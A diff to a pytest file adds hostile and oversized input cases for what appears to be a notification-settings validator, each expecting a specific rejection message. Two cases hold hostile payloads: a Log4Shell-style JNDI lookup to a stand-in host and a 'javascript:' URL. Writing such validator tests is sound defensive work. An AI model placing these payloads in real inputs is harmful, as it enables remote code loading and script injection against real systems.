@@ -512,7 +512,24 @@ BAD_INPUTS = [
         "50",
         id="settings-quota",
     ),
-]
+    # hostile and oversized values
+    pytest.param({"type": "NotificationTemplateContent", "name": "c", "args": {
+        "template_name": "strong_authentication", "locale": "en", "delivery_method": "SMS",
+        "content": "${otp} ${jndi:ldap://evil.example/a}"}}, "",
+        "${jndi:ldap://evil.example/a} is not a variable name", id="hostile-variable"),
+    pytest.param({"type": "PhoneDeliverySettings", "name": "g", "args": {
+        "provider": "CUSTOM_PROVIDER", "name": "G", "authentication": {"method": "BEARER", "auth_token": "t"},
+        "requests": [{"delivery_method": "SMS", "method": "POST", "url": "javascript:alert(1)"}]}},
+        "requests[0]", "not an absolute http(s) URL", id="hostile-url"),
+    pytest.param({"type": "NotificationTemplateContent", "name": "c", "args": {
+        "template_name": "general", "locale": "en", "delivery_method": "Email", "subject": "s",
+        "body": "x" * 102_401}}, "", "at most 100 KB", id="oversized-body"),
+    pytest.param({"type": "NotificationTemplateContent", "name": "c", "args": {
+        "template_name": "general", "locale": "en", "delivery_method": "SMS", "content": "Hi",
+        "sender": "Acme\u202e"}}, "sender", "letters, digits and spaces", id="unicode-sender"),
+    pytest.param({"type": "NotificationPolicy", "name": "p", "args": {"name": "N" * 300}}, "name",
+                 "at most 256 characters", id="oversized-name"),
+]  # fmt: skip
 
 
 @pytest.mark.parametrize(("resource", "prop", "words"), BAD_INPUTS)
